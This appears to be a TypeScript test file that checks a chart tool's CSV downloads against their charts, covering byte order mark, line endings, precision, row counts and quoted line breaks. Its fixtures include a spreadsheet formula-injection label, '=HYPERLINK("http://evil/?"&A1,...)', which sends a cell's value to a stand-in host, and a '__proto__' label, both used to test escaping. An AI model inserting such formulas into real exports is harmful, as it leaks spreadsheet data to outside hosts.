/**
 * The build reads every chart's CSV download back and compares it with the
 * chart (F3 in tests/checklist/README.md); each kind of difference is named.
 */
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import Papa from 'papaparse';
import { afterAll, describe, expect, it } from 'vitest';
import { compareDownload, verifyDownloads } from '../../../src/lib/build/verify-downloads.ts';
import { chartCsv } from '../../../src/lib/chart/to-csv.ts';
import { parseCsv } from '../../../src/lib/data/csv.ts';
import { engagementSpec, MICRO, series } from '../chart/spec-fixtures.ts';

const temp = mkdtempSync(join(tmpdir(), 'trendbook-downloads-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

// Labels a spreadsheet would run, a gap, a negative number, a midpoint with its range, and full precision.
const spec = engagementSpec({
  x: {
    column: 'year',
    label: 'Year',
    format: { type: 'year', decimals: 0 },
    values: [2016, 2017, 2018],
    labels: ['2016', '2017', '2018'],
  },
  seriesColumn: 'label',
  series: [
    series('=HYPERLINK("http://evil/?"&A1,"Click")', 'formula', [0.1 + 0.2, null, -5], MICRO),
    series('__proto__', '__proto__', [1.25, 2.5, 3], { ...MICRO, ranges: [null, [2, 3], null] }),
  ],
});

describe('downloads read back', () => {
  it('match their chart exactly, with the formula prefix as the only change', () => {
    const text = chartCsv(spec);
    expect(text).toContain(`'=HYPERLINK`);
    expect(text).toContain('0.30000000000000004');
    expect(compareDownload(text, spec)).toBeUndefined();
  });

  it('name every kind of difference', () => {
    const text = chartCsv(spec);
    expect(compareDownload(text.slice(1), spec)).toBe('no UTF-8 byte order mark (Excel would misread accents)');
    expect(compareDownload(text.replace(/\r\n/g, '\n'), spec)).toBe('a record ends in LF or CR, not CRLF');
    expect(compareDownload(text.replace('0.30000000000000004', '0.3'), spec)).toBe(
      'row 2, engagement_rate of year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "0.3", expected "0.30000000000000004"',
    );
    expect(compareDownload(text.replace(/\r\n2018,__proto__[^\r]*/, ''), spec)).toBe(
      '4 rows, expected 5 (one per point drawn)',
    );
    expect(compareDownload(text.replace('year,label', 'label,year'), spec)).toBe(
      'header is ["label","year","engagement_rate","basis","range_low","range_high"], expected ["year","label","engagement_rate","basis","range_low","range_high"]',
    );
  });

  it('catch a writer that drops the formula prefix or writes a number as text', () => {
    const text = chartCsv(spec);
    expect(compareDownload(text.replace(`"'=HYPERLINK`, '"=HYPERLINK'), spec)).toBe(
      'row 2: label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")" would run as a formula in a spreadsheet (no \' before it)',
    );
    expect(compareDownload(text.replace(',-5,', ",'-5,"), spec)).toBe(
      'row 3, engagement_rate of year "2018", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")": "\'-5", expected "-5"',
    );
  });

  it('catch a row that stands in for another point', () => {
    const text = chartCsv(spec);
    const lines = text.split('\r\n');
    lines[2] = lines[1]!;
    expect(compareDownload(lines.join('\r\n'), spec)).toBe(
      'row 3 repeats the point year "2016", label "=HYPERLINK(\\"http://evil/?\\"&A1,\\"Click\\")"',
    );
  });

  it('are all checked in a built folder, and a missing one is named', () => {
    const dir = join(temp, 'downloads', 'q3');
    mkdirSync(dir, { recursive: true });
    writeFileSync(join(dir, 'engagement.csv'), chartCsv(spec));
    expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec] }])).toEqual([]);
    expect(verifyDownloads(temp, [{ slug: 'q3', charts: [spec, { ...spec, id: 'cost' }] }])).toEqual([
      '/downloads/q3/cost.csv: missing',
    ]);
  });
});

describe('a label with a line break', () => {
  const story = engagementSpec({
    x: {
      column: 'story',
      label: 'Story',
      format: { type: 'category', decimals: 0 },
      values: ['Once upon\na time', 'The end'],
      labels: ['Once upon\na time', 'The end'],
    },
  });

  it('is written quoted, with CRLF between records, and passes the check', () => {
    const text = chartCsv(story);
    expect(text).toBe(
      '\uFEFFstory,tier,engagement_rate,basis\r\n"Once upon\na time",micro,2.4,reported\r\nThe end,micro,2.2,reported\r\n"Once upon\na time",mega,1.7,reported\r\nThe end,mega,1.5,reported\r\n',
    );
    expect(compareDownload(text, story)).toBeUndefined();
  });

  it("reads back as the same cell in a CSV reader that guesses line endings, and in the project's own", () => {
    const text = chartCsv(story).slice(1);
    const guessed = Papa.parse<string[]>(text, { skipEmptyLines: true });
    expect(guessed.errors).toEqual([]);
    expect(guessed.data.map((row) => row[0])).toEqual([
      'story',
      'Once upon\na time',
      'The end',
      'Once upon\na time',
      'The end',
    ]);
    const own = parseCsv(text, 'download.csv');
    expect(own.problems).toEqual([]);
    expect(own.rows.map((row) => row.cells[0])).toEqual([
      'Once upon\na time',
      'The end',
      'Once upon\na time',
      'The end',
    ]);
  });

  it('fails the check when the writer leaves it unquoted, or drops the break', () => {
    const text = chartCsv(story);
    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon\na time'), story)).toBe(
      'a record ends in LF or CR, not CRLF',
    );
    expect(compareDownload(text.replaceAll('"Once upon\na time"', 'Once upon a time'), story)).toBe(
      'row 2: story "Once upon a time" is not on the chart\'s x axis',
    );
  });
});
